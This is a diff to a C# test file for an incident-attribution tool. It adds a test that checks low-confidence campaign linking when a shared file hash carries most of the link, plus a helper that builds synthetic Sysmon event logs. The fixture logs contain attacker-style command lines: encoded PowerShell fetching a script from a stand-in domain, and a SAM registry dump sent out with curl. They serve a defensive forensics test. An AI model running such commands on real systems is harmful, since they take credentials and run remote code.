@@ -1,10 +1,12 @@
 using System.Text.Json;
+using System.Text.RegularExpressions;
 using Culprit.Cases;
 using Culprit.Cli.Attribution;
 using Culprit.Incidents;
 using Culprit.Knowledge;
 using Culprit.SampleMaker.Scenario;
 using Culprit.TestSupport;
+using Culprit.TestSupport.Evtx;
 
 namespace Culprit.Cli.Tests.Commands;
 
@@ -130,11 +132,30 @@ public sealed class LinkTests : IDisposable
 
         Assert.StartsWith("No incidents are likely one campaign; of 1 pair it is a realistic possibility.\n", page, StringComparison.Ordinal);
         Assert.Matches(@"NOT LINKED\n  a #1: nearest b #1, realistic possibility \(9[0-9]%\); shares address 203\.0\.113\.7\n +cap +One domain, with all names below it", page);
-        Assert.Single(System.Text.RegularExpressions.Regex.Matches(page, "cap +One domain"));
+        Assert.Single(Regex.Matches(page, "cap +One domain"));
         using var json = JsonDocument.Parse(_program.Run("link", a, b, "--min", "low", "--format", "json").Out);
         JsonElement pair = Assert.Single(json.RootElement.GetProperty("pairs").EnumerateArray());
         Assert.Equal("realistic_possibility", pair.GetProperty("likelihood").GetString());
         Assert.StartsWith("One domain, with all names below it", Assert.Single(pair.GetProperty("caps").EnumerateArray()).GetString(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_campaign_that_hangs_on_one_file_beside_one_domain_is_not_said_to_hold_without_it()
+    {
+        string a = Investigate(Implant("PC-1.one.example"), "a"), b = Investigate(Implant("PC-2.two.example"), "b");
+
+        string page = OneLine(_program.Run("link", a, b, "--min", "low").Out);
+
+        Assert.StartsWith("2 incidents likely belong to 1 campaign. ", page, StringComparison.Ordinal);
+        Assert.Matches("minus the file hash [0-9A-Fa-f]+, which carries most: no campaign remains\\. One domain, with all names below it", page);
+        Assert.Contains(" It is likely that ", page, StringComparison.Ordinal);
+        Assert.Contains(" Confidence in this is low: without the strongest thing that they share no more than a realistic possibility would be said.", page, StringComparison.Ordinal);
+        Assert.Matches("change If the file hash [0-9A-Fa-f]+ was misread, planted or is shared by others", page);
+        using var json = JsonDocument.Parse(_program.Run("link", a, b, "--min", "low", "--format", "json").Out);
+        JsonElement pair = Assert.Single(json.RootElement.GetProperty("pairs").EnumerateArray()), campaign = Assert.Single(json.RootElement.GetProperty("campaigns").EnumerateArray());
+        Assert.Equal("realistic_possibility", pair.GetProperty("likelihood_without_strongest").GetString());
+        Assert.Empty(campaign.GetProperty("without_strongest").EnumerateArray());
+        Assert.StartsWith("One domain, with all names below it", Assert.Single(campaign.GetProperty("without_strongest_caps").EnumerateArray()).GetString(), StringComparison.Ordinal);
     }
 
     [Fact]
@@ -224,6 +245,32 @@ public sealed class LinkTests : IDisposable
     // One process of another kind of intruder.
     private string MadeUp(string computer, string address, string? another = null) => Path.GetDirectoryName(_program.Write(
         $"evidence-{Guid.NewGuid():N}/one.evtx", TestEvidence.Log(computer, $"powershell -enc SQBFAFgA http://{address}/qzx.ps1", $"whoami /all & curl http://{address}/q", $"reg save HKLM\\SAM c:\\users\\public\\s.dat & curl http://{address}/s{(another is null ? "" : $" http://{another}/s")}")))!;
+
+    // One unpublished program that speaks to one domain.
+    private string Implant(string computer) => Path.GetDirectoryName(_program.Write($"evidence-{Guid.NewGuid():N}/one.evtx", EvtxWriter.ToBytes(writer =>
+    {
+        foreach (string command in new[] { "powershell -enc SQBFAFgA http://kqzone.example.net/qzx.ps1", @"reg save HKLM\SAM c:\users\public\s.dat & curl http://kqzone.example.net/s" })
+        {
+            writer.Write(new EvtxEvent
+            {
+                Provider = "Microsoft-Windows-Sysmon",
+                ProviderGuid = new Guid("5770385f-c22a-43e0-bf4c-06f5698ffbd9"),
+                EventId = 1,
+                Version = 5,
+                Time = TestEvidence.Start,
+                Channel = "Microsoft-Windows-Sysmon/Operational",
+                Computer = computer,
+                UserSid = "S-1-5-18",
+                Data =
+                [
+                    ("UtcTime", "2024-03-01 12:00:00.000"), ("Image", @"C:\Users\Public\kqzrunner.exe"), ("Company", "-"), ("Product", "-"), ("OriginalFileName", "-"),
+                    ("CommandLine", command), ("User", "LAB\\alice"), ("Hashes", "SHA256=" + new string('7', 60) + "ABCD"),
+                ],
+            });
+        }
+    })))!;
+
+    private static string OneLine(string page) => Regex.Replace(page, @"\s+", " ");
 
     private static string Hash(string folder) => string.Join('\n', Directory.EnumerateFiles(folder, "*", SearchOption.AllDirectories).Order(StringComparer.Ordinal)
         .Select(static f => f + Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(f)))));
